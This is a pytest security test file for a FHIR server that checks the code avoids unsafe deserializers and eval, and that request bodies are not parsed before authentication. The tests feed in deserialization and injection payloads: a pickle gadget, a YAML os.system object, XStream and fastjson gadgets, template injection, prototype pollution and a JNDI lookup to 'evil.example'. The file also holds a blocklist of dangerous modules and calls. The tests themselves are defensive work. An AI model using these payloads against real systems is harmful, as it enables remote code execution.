"""N39: what an engine is configured by is data, and nobody's bytes are parsed before it is known whose they are.

CVE-2023-43208 and CVE-2023-37679: an integration engine that made objects of what came, before it asked who sent it.
https://owasp.org/www-project-application-security-verification-standard/ V5.5
"""

from __future__ import annotations

import ast
import asyncio
import pickle
from pathlib import Path
from typing import Any

import pytest

from fhir_server.app import front
from fhir_server.engine.celery_app import celery
from tests.fhir import Client
from tests.http.test_channels import call
from tests.security.doors import OPEN, filled, routes

ROOT = Path(__file__).parents[2]
SOURCES = [
    path for folder in ("adapters", "conformance", "fhir_server", "mappings") for path in (ROOT / folder).rglob("*.py")
]
# What makes objects of a language, or runs text, out of bytes.
MODULES = {
    "pickle",
    "cPickle",
    "marshal",
    "shelve",
    "dill",
    "cloudpickle",
    "jsonpickle",
    "yaml",
    "code",
    "imp",
    "joblib",
}
CALLS = {"eval", "exec", "compile", "__import__", "execfile"}


def _uses(source: str) -> set[str]:
    """Return what a module names of these."""
    found = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found |= {name.name.split(".")[0] for name in node.names} & MODULES
        elif isinstance(node, ast.ImportFrom) and not node.level:
            found |= {(node.module or "").split(".")[0]} & MODULES
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            found |= {node.func.id} & CALLS
    return found


def test_n39_no_module_can_make_objects_of_a_language_or_run_text() -> None:
    assert len(SOURCES) > 200
    assert {str(path.relative_to(ROOT)): uses for path in SOURCES if (uses := _uses(path.read_text()))} == {}


@pytest.mark.parametrize("source", ["import pickle", "from yaml import load", "eval('1')", "import os, marshal"])
def test_n39_what_looks_for_them_finds_them(source: str) -> None:
    assert _uses(source)


def test_n39_what_comes_by_the_broker_is_json() -> None:
    conf = celery("memory://").conf
    assert (list(conf.accept_content), conf.task_serializer) == (["json"], "json")


class _Boom:
    def __init__(self, place: Path) -> None:
        self.place = place

    def __reduce__(self) -> Any:
        return Path.touch, (self.place,)


def _definitions(place: Path) -> list[bytes]:
    """Return what a careless reader of configurations would run."""
    return [
        pickle.dumps(_Boom(place)),
        f"!!python/object/apply:os.system ['touch {place}']".encode(),
        b'{"name": "x", "py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, ["id"]]}',
        b"<sorted-set><dynamic-proxy><handler class='java.beans.EventHandler'/></dynamic-proxy></sorted-set>",
        b'{"name": "x", "@type": "com.sun.rowset.JdbcRowSetImpl"}',
        f"__import__('pathlib').Path({str(place)!r}).touch()".encode(),
        b'{"name": "x", "profile": {"script": "return 1"}}',
        b'{"name": "x", "steps": ["os.system"]}',
        b'{"name": "x", "source": {"kind": "__class__"}}',
        b'{"name": "{{7*7}}"}',
        b'{"name": "x", "__proto__": {"admin": true}}',
    ]


async def test_n39_no_definition_of_a_channel_runs_or_is_taken_for_another(fhir: Client, tmp_path: Path) -> None:
    place = tmp_path / "ran"
    for data in _definitions(place):
        answer = await call(fhir, "POST", content=data)
        assert answer.status_code in (400, 415, 422), data
    assert (await call(fhir, "GET")).json() == []
    assert not place.exists()


async def test_n39_what_looks_like_a_template_in_a_definition_stays_text(fhir: Client) -> None:
    given = {"name": "lab", "profile": {"systems": {"{{7*7}}": "${jndi:ldap://evil.example/a}"}, "scope": "%(x)s{0}"}}
    assert (await call(fhir, "POST", json=given)).status_code == 200
    (row,) = (await call(fhir, "GET")).json()
    assert row["definition"]["profile"] == given["profile"]


async def asked(fhir: Client, method: str, path: str, headers: dict[str, str]) -> tuple[int, int]:
    """Return the status of an answer to a request whose body never comes, and how often the body was asked for."""
    reads, statuses = 0, list[int]()

    async def receive() -> Any:
        nonlocal reads
        reads += 1
        if reads > 1:
            await asyncio.Event().wait()
        return {"type": "http.request", "body": b'{"' * 1000, "more_body": False}

    async def send(event: Any) -> None:
        statuses.extend([event["status"]] if event["type"] == "http.response.start" else [])

    given = {"host": "localhost", "content-type": "application/json", "content-length": "2000", **headers}
    scope = {"type": "http", "method": method, "path": path, "raw_path": path.encode(), "query_string": b""}
    scope |= {"headers": [(name.encode(), value.encode()) for name, value in given.items()], "http_version": "1.1"}
    scope |= {"scheme": "http", "root_path": "", "client": ("127.0.0.1", 1), "server": ("127.0.0.1", 80)}
    await front(fhir.concord)(scope, receive, send)
    return statuses[0], reads


@pytest.mark.parametrize(
    "headers",
    [{}, {"authorization": "Bearer x.y.z"}, {"authorization": "Basic eDp5"}, {"cookie": "concord=x"}],
    ids=str,
)
async def test_n39_nothing_of_a_body_is_read_before_it_is_known_who_sends_it(
    fhir: Client, headers: dict[str, str]
) -> None:
    found = {}
    for method, path in sorted(set(routes(front(fhir.concord)))):
        if method in ("POST", "PUT", "PATCH", "DELETE") and path not in OPEN and "/api/" in path:
            found[method, path] = await asked(fhir, method, filled(path, fhir.tenant), headers)
    for method, path in (
        ("POST", "/fhir/Patient"),
        ("PUT", "/fhir/Patient/1"),
        ("POST", "/fhir"),
        ("POST", "/fhir/Binary"),
    ):
        found[method, path] = await asked(fhir, method, f"/{fhir.tenant}{path}", headers)
    assert len(found) > 20
    # The FHIR door looks whether the client has left; it parses nothing of what it sees then.
    assert {at: a for at, a in found.items() if a != (401, 0) and not (a[0] == 401 and at[1].startswith("/fhir"))} == {}
